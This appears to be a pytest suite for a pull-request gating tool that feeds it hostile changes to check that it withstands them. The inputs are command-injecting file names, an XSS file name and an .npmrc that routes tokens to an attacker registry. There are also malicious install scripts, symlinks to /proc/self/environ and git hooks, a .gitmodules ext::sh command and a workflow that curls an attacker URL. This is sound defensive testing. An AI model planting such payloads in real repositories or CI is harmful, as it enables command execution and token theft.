"""A hostile change by what its files are called, and by what they configure."""

from collections.abc import Callable

import pytest

from tests.act.test_hostile import JUDGED, lair, own, tokens, verdicts
from tests.act.test_pulls import push
from tests.support import e2e_acts as acts
from tests.support import e2e_project as project
from tests.support.act_hostile import Lair
from tests.support.act_town import Town

__all__ = ["lair", "own"]
pytestmark = pytest.mark.slow
Own = Callable[[str], Town]

NAMES = (
    "test/$(touch owned).test.js",
    "test/`touch owned`.test.js",
    "test/;touch owned;.test.js",
    "test/'\"quoted\"'.test.js",
    "test/a\nb.test.js",
    "test/a\n::error::owned.test.js",
    "--eval=owned.test.js",
    "--test-reporter=owned.test.js",
    "-rowned.test.js",
    ":(top)owned.test.js",
    "test/${{ github.token }}.test.js",
    "test/<img src=x onerror=owned>.test.js",
    "test/| owned | @priya #1.test.js",
    "test/\u202egnp.test.js",
)
HARMLESS = 'const test = require("node:test");\ntest("is 42", () => {});\n'


def test_no_file_name_is_a_command_an_option_or_an_annotation(own: Own) -> None:
    there = own("proposed")
    push(there, dict.fromkeys(NAMES, HARMLESS))
    ran = there.play("pull_request", "synchronize")
    assert ran.ended["hotfix/run the change's tests"] == "success", ran
    assert ran.ended[JUDGED] in ("success", "failure"), ran
    assert [note for note in ran.annotations if note.startswith("::error::owned")] == []
    judged = verdicts(there)
    assert judged["audit"] == ("pass", "block"), judged
    assert judged["guard"][0] in ("pass", "fail"), judged  # fifteen files may be too many
    text = there.scene.get("issues/1")["body"] + "".join(
        comment["body"] for comment in there.scene.get("issues/1/comments")
    )
    assert "<img" not in text
    assert not [token for token in tokens(there) if token in ran.log]


def test_npms_configuration_and_scripts_in_a_change_get_and_do_nothing(
    own: Own, lair: Lair
) -> None:
    there = own("proposed")
    host = lair.url.removeprefix("http:")
    files = {
        ".npmrc": (
            f"registry={lair.url}\n{host}:_authToken=${{HOTFIX_TOKEN}}${{GITHUB_TOKEN}}x\n"
            "script-shell=./evil.sh\nnode-options=--require ./evil.js\naudit-level=none\n"
            "ignore-scripts=false\naudit=false\n"
        ),
        "package.json": (
            '{\n  "name": "answers",\n  "version": "1.2.4",\n  "private": true,\n'
            '  "dependencies": {"left": "1.0.0"},\n'
            '  "scripts": {\n    "preinstall": "touch owned", "postinstall": "touch owned",\n'
            '    "prepare": "touch owned", "pretest": "touch owned", "test": "node --test"\n'
            "  }\n}\n"
        ),
        "package-lock.json": (
            '{"name": "answers", "version": "1.2.4", "lockfileVersion": 3, "requires": true,\n'
            ' "packages": {"": {"name": "answers", "version": "1.2.4",\n'
            '  "dependencies": {"left": "1.0.0"}},\n'
            f'  "node_modules/left": {{"version": "1.0.0", "resolved": "{lair.url}left.tgz",\n'
            '   "integrity": "sha512-AAAA"}}}\n'
        ),
        "evil.sh": "#!/bin/sh\ntouch owned\n",
        "evil.js": "require('fs').writeFileSync('owned', '');\n",
    }
    push(there, files)
    ran = there.play("pull_request", "synchronize")
    known = tokens(there)
    assert not [token for token in known if token in str(lair.loot)], "a token was sent away"
    assert not [what for what in lair.loot if "security" in what], "the audit asked the change's"
    judged = verdicts(there)
    assert judged["tests"][0] in ("unproven", "error"), ran  # nothing could be installed
    assert ran.ended[JUDGED] == "failure", ran


def test_links_and_gits_own_files_in_a_change_lead_nowhere(own: Own) -> None:
    there = own("proposed")
    kenji, folder = there.scene.person("kenji"), there.scene.work / "kenji"
    outside = there.scene.work / "outside.txt"
    outside.write_text("as it was")
    for name, target in (
        ("test/environ.test.js", "/proc/self/environ"),
        ("test/outside.test.js", str(outside)),
        ("lib", "../../../../../../../../tmp"),
        ("hooks", "../.git/hooks"),
    ):
        (folder / name).symlink_to(target)
    (folder / ".gitattributes").write_text("* filter=owned diff=owned merge=owned\n")
    (folder / ".gitmodules").write_text(
        '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% owned\n\tupdate = !touch owned\n'
    )
    kenji.git(folder, ["add", "--all"])
    kenji.git(folder, ["commit", "-q", "-m", "Links"])
    kenji.git(folder, ["push", "-q"])
    ran = there.play("pull_request", "synchronize")
    assert ran.ended[JUDGED] in ("success", "failure"), ran
    assert outside.read_text() == "as it was"
    assert not [token for token in tokens(there) if token in ran.log]
    assert verdicts(there)["audit"] == ("unproven", "block")  # a submodule is a dependency


def test_a_workflow_in_a_change_is_refused_by_the_guard_and_never_run(own: Own, lair: Lair) -> None:
    there = own("proposed")
    workflow = (
        "on: [pull_request, push]\njobs:\n  owned:\n    runs-on: ubuntu-latest\n"
        f"    steps:\n      - run: curl -d owned {lair.url}\n"
    )
    push(there, {".github/workflows/owned.yml": workflow,
                 ".github/hotfix.yml": "guard: {max-files: 1000}\n",
                 "test/question.test.js": project.FIX["test/question.test.js"]})  # fmt: skip
    ran = there.play("pull_request", "synchronize")
    assert verdicts(there)["guard"][0] == "fail", ran
    assert lair.loot == {}
    head = there.scene.get(f"pulls/{acts.fix_pull(there.scene)}")["head"]["sha"]
    names = {run["name"] for run in there.scene.get(f"commits/{head}/check-runs")["check_runs"]}
    assert names == {"hotfix-gate"}
